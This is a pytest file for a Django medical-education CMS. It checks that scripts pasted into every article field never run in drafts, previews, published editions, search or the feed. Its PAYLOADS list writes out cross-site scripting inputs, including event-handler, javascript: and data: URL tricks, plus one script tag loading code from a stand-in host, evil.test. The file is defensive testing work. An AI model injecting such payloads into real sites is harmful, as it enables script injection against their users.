"""A script pasted into any field never runs: not in the draft, the preview, the edition, or anywhere else."""

import re
from itertools import chain
from xml.etree import ElementTree

import pytest
from django.test import Client

from education.accounts.models import User
from education.articles.content.blocks import BLOCK_TYPES
from education.articles.models import Article, Edition
from education.core.text import one_line
from education.search.models import SearchEntry
from tests.cast import (
    article,
    clara,
    complete,
    erin_the_editor,
    every_block,
    every_block_that_passes,
    live,
    logged_in,
    seen,
    taken_over,
)
from tests.database import SharedRows
from tests.screens import body, form_data, harm

pytestmark = pytest.mark.django_db
# As many together as the shortest field takes. One that leaves something open stands last: what came after it might be
# read as part of it.
PAYLOADS = [
    (
        '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
        "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    ),
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '<a href="jav\tascript:alert(1)">x</a>',
    ),
    (
        "</title></textarea></script><script>alert(1)</script>",
        '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    ),
    (
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href=" &#106;avascript:alert(1)">x</a>',
    ),
    (
        "<iframe src=javascript:alert(1)></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "--><script>alert(1)</script><!--",
    ),
    ('<a href="javascript:alert(1)">x</a>', "<img src=x onerror=alert(1)>", "' onfocus='alert(1)' autofocus='"),
    ("<script>alert(1)</script>", '"><script>alert(1)</script>', "<svg onload=alert(1)>"),
]
FIELDS = [
    "title",
    "summary",
    "aliases",
    "education_textblock_set-0-body",
    "education_keypointsblock_set-0-items",
    "education_carecardblock_set-0-title",
    "education_carecardblock_set-0-body",
    "education_questionsblock_set-0-title",
    "education_questionsblock_set-0-items",
    "education_figureblock_set-0-alt",
    "education_figureblock_set-0-caption",
    "education_figureblock_set-0-credit",
    "education_dodontblock_set-0-title",
    "education_dodontblock_set-0-dos",
    "education_dodontblock_set-0-donts",
    "education_claimblock_set-0-text",
    "education_claimblock_set-0-graded_by",
    "education_knownblock_set-0-title",
    "education_knownblock_set-0-known",
    "education_knownblock_set-0-not_known",
    "education_stepsblock_set-0-title",
    "education_stepsblock_set-0-items",
    "education_expanderblock_set-0-title",
    "education_expanderblock_set-0-body",
    "education_tableblock_set-0-caption",
    "education_riskblock_set-0-title",
    "education_riskblock_set-0-first_group",
    "education_riskblock_set-0-second_group",
]
HARMFUL = "Marker <script>alert(1)</script><img src=x onerror=alert(1)>"
LUPUS = "/autoimmune-conditions/lupus/"
FEED = {"feed", "title", "id", "link", "author", "name", "updated", "entry"}
PUBLIC = ["/", "/autoimmune-conditions/", LUPUS, f"{LUPUS}history/", "/a-z/", "/search/?q=marker"]


@pytest.fixture(scope="module")
def opened(shared_rows: SharedRows) -> tuple[Article, User, str]:
    """A draft with a block of each kind, an editor, and the form as it opens for her."""
    with shared_rows():
        draft, erin = complete("lupus", blocks=every_block_that_passes()), erin_the_editor()
        return draft, erin, body(logged_in(erin).get(f"/admin/education/article/{draft.pk}/change/"))


@pytest.mark.thorough
@pytest.mark.parametrize("payload", [" ".join(together) for together in PAYLOADS])
def test_a_pasted_script_never_runs(client: Client, opened: tuple[Article, User, str], payload: str) -> None:
    draft, editor, before = opened
    erin, admin = logged_in(editor), f"/admin/education/article/{draft.pk}"
    typed = dict.fromkeys(FIELDS, f"Marker {payload}")
    typed["education_tableblock_set-0-rows"] = f"Marker {payload} | x\nMarker {payload} | Marker {payload}"
    saved = erin.post(f"{admin}/change/", form_data(before, "article_form") | typed | {"_continue": "x"})
    assert saved.status_code == 302
    assert own_scripts(body(erin.get(f"{admin}/change/"))) == own_scripts(before)
    erin.post(f"{admin}/submit/", {"note": payload})
    doctor = logged_in(clara())
    for name in ("preview", "review", "sign"):
        assert harm(body(doctor.get(f"{admin}/{name}/"))) == [], name
    doctor.post(f"{admin}/sign/", {"seen": seen(draft), "kind": "full", **taken_over(draft)})
    done = erin.post(f"{admin}/publish/", {"reason": payload}, follow=True)
    assert harm(body(done)) == []
    assert harm(Edition.objects.get().html) == []
    for name in ("editions", "compare", "sign"):
        assert harm(body(doctor.get(f"{admin}/{name}/"))) == [], name
    for path in PUBLIC:
        page = body(client.get(path))
        assert harm(page) == [], path
        assert "Marker" in page, path
    assert harm(body(client.get("/search/", {"q": payload}))) == []
    assert "<" not in SearchEntry.objects.get().words
    feed = ElementTree.fromstring(client.get("/feed/").content)
    assert {element.tag.rpartition("}")[2] for element in feed.iter()} == FEED
    assert one_line(typed["title"]) in [element.text for element in feed.iter()]


def own_scripts(page: str) -> list[str]:
    """The editor's own inline scripts, which carry a nonce; a pasted one would make another."""
    return [re.sub(r"nonce\W+[\w+/=-]+", "nonce", found) for found in harm(page)]


def test_a_script_that_bypassed_the_form_is_removed_when_rendering(client: Client) -> None:
    """It may have come by an import, a restore or a change in the database."""
    blocks = every_block()
    for block in blocks:
        for name in BLOCK_TYPES[block["type"]].content_fields:
            if isinstance(block[name], list) and block[name]:
                block[name] = [[HARMFUL, HARMFUL], [HARMFUL, HARMFUL]] if name == "rows" else [HARMFUL]
            elif name in ("body", "title", "alt", "caption", "text", "graded_by", "first_group", "second_group"):
                block[name] = HARMFUL
    draft = article("gout", blocks=blocks)
    live(draft)
    page = body(client.get("/autoimmune-conditions/gout/"))
    assert harm(page) == []
    assert page.count("Marker") >= 20


def test_the_check_for_scripts_detects_scripts() -> None:
    """So that the tests above can fail."""
    for payload in chain(*PAYLOADS):
        around = f"<p>{payload}</p>" if not payload.startswith("'") else f"<input value='{payload}'>"
        assert harm(around), payload
